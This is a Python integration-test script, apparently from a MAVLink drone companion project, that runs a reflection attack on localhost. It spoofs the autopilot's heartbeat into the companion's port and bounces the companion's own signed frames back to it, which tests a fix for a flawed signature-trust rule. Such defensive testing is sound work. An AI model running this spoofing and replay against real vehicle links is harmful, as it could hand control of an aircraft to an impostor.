"""The reflection attack on a listening vehicle link, as its own process (a local process on the
companion host, no key): it sends the autopilot's HEARTBEAT (1/1) into the companion's port from
before the companion starts, so it is the first address that claims the autopilot; every signed
frame the companion then sends it goes straight back. With the old rule ("a frame signed with the
link's key proves the autopilot") the companion's own signed HEARTBEAT made the attacker "the
autopilot, signed". One JSON line per event on stdout.

usage: python tests/integration/reflector.py COMPANION_PORT DURATION_S
"""

from __future__ import annotations

import json
import os
import select
import socket
import sys
import time

os.environ.setdefault("MAVLINK20", "1")

from pymavlink.dialects.v20 import common as mav  # noqa: E402


def main() -> int:
    port, duration = int(sys.argv[1]), float(sys.argv[2])
    companion = ("127.0.0.1", port)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.setblocking(False)
    m = mav.MAVLink(None, srcSystem=1, srcComponent=1)
    counts = {"heartbeats": 0, "heard": 0, "heard_signed": 0, "reflected": 0}
    print(json.dumps({"ev": "ready", "me": list(s.getsockname())}), flush=True)
    end = time.monotonic() + duration
    last_hb = 0.0
    while time.monotonic() < end:
        now = time.monotonic()
        if now - last_hb >= 0.02:
            hb = m.heartbeat_encode(mav.MAV_TYPE_QUADROTOR, mav.MAV_AUTOPILOT_PX4, 0x80 | 0x1, 4 << 16, 3).pack(m)
            try:
                s.sendto(hb, companion)
            except OSError:  # nobody listening yet (ICMP port unreachable)
                pass
            counts["heartbeats"] += 1
            last_hb = now
        if not select.select([s], [], [], max(0.0, min(0.02 - (time.monotonic() - last_hb), end - now)))[0]:
            continue  # nothing to read before the next heartbeat is due
        try:
            data, addr = s.recvfrom(65535)
        except (BlockingIOError, ConnectionRefusedError):
            continue
        counts["heard"] += 1
        if len(data) > 9 and data[0] == 0xFD and data[2] & 1:
            counts["heard_signed"] += 1
            s.sendto(data, companion)  # the companion's own signed frame, back to it
            counts["reflected"] += 1
            if counts["reflected"] <= 3:
                print(json.dumps({"ev": "reflected", "src": [data[5], data[6]],
                                  "msgid": data[7] | data[8] << 8 | data[9] << 16}), flush=True)
    print(json.dumps({"ev": "done", **counts}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
